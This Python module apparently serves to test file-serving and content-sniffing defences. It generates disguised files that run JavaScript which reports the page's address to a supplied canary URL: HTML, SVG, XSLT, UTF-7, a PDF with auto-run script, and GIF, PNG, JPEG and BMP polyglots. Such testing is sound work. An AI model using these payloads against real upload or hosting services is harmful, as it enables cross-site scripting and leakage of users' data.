"""Files that would run a script if they were served as what they can be read as; each says so to an address."""

from __future__ import annotations

import io
import zipfile
import zlib
from collections.abc import Callable

from PIL import Image


def _script(canary: str) -> str:
    """What each sample tries: to tell where it ran, in every way that some policy may have forgotten."""
    return (
        f'try{{fetch("{canary}/fetch?"+encodeURIComponent(location.href),{{mode:"no-cors"}})}}catch(e){{}};'
        f'new Image().src="{canary}/image?"+encodeURIComponent(location.href);document.title="ran";'
    )


def samples(canary: str) -> dict[str, bytes]:
    """Every sample by a file name that says what it pretends to be.

    Args:
        canary: where a script that runs tells of it.
    """
    script = _script(canary)
    page = f"<!doctype html><html><body onload='{script}'><script>{script}</script></body></html>".encode()
    markup = f"<svg onload='{script}'><script>{script}</script></svg>".encode()
    makers: dict[str, Callable[[], bytes]] = {
        "page.html": lambda: page,
        "no-doctype.html": lambda: b"<script>" + script.encode() + b"</script>",
        "later.txt": lambda: b"Notes\n" * 200 + page,
        "drawing.svg": lambda: b'<svg xmlns="http://www.w3.org/2000/svg" ' + markup[5:],
        "xhtml.xml": lambda: (
            b'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>'
            b"<![CDATA[" + script.encode() + b"]]></script></html>"
        ),
        "styled.xml": lambda: (
            b'<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#s"?><x><xsl:stylesheet id="s" version="1.0" '
            b'xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><script>'
            + script.encode()
            + b"</script></xsl:template></xsl:stylesheet></x>"
        ),
        "code.js": lambda: script.encode(),
        "archive.mhtml": lambda: b"MIME-Version: 1.0\nContent-Type: text/html\n\n" + page,
        "utf-7.txt": lambda: b"+ADw-script+AD4-" + script.encode() + b"+ADw-/script+AD4-",
        "paper.pdf": lambda: _pdf(script),
        "bundle.zip": lambda: _zip(page),
        "gif-and-script.gif": lambda: _gif_script(script),
        "png-and-page.png": lambda: _png(page),
        "png-with-page-after.png": lambda: _png(b"") + page,
        "jpeg-and-zip.jpg": lambda: _jpeg(page) + _zip(page),
        "jpeg-with-page.jpg": lambda: _jpeg(page),
        "bmp-and-script.bmp": lambda: _bmp_script(script),
    }
    return {name: make() for name, make in makers.items()}


def _picture(kind: str, **options: object) -> bytes:
    buffer = io.BytesIO()
    Image.linear_gradient("L").convert("RGB").resize((24, 18)).save(buffer, kind, **options)
    return buffer.getvalue()


def _gif_script(script: str) -> bytes:
    """A GIF whose width begins a comment of JavaScript that its end closes: `GIF89a/*…*/=1;…`."""
    body = bytearray(_picture("GIF"))
    # The logical screen may have any size; the picture within it keeps its own.
    body[6:10] = b"/*\x10\x10"
    return bytes(body[:-1]) + b"\x3b*/=1;" + script.encode()


def _png(text: bytes) -> bytes:
    """A PNG with a text of its own, as one that a browser that sniffs would take for a page."""
    plain = _picture("PNG")
    chunk = b"tEXtComment\x00" + text
    piece = len(chunk[4:]).to_bytes(4, "big") + chunk + zlib.crc32(chunk).to_bytes(4, "big")
    return plain[:33] + piece + plain[33:]


def _jpeg(comment: bytes) -> bytes:
    plain = _picture("JPEG")
    return plain[:2] + b"\xff\xfe" + (len(comment) + 2).to_bytes(2, "big") + comment + plain[2:]


def _bmp_script(script: str) -> bytes:
    """A BMP whose size begins a comment: its header says so, its pixels are where they were."""
    return _picture("BMP") + b"*/=1;" + script.encode()


def _zip(page: bytes) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("index.html", page)
    return buffer.getvalue()


def _pdf(script: str) -> bytes:
    act = script.replace("(", "\\(").replace(")", "\\)")
    body = (
        "%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS("
        + act
        + ")>>>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
    )
    return body.encode()
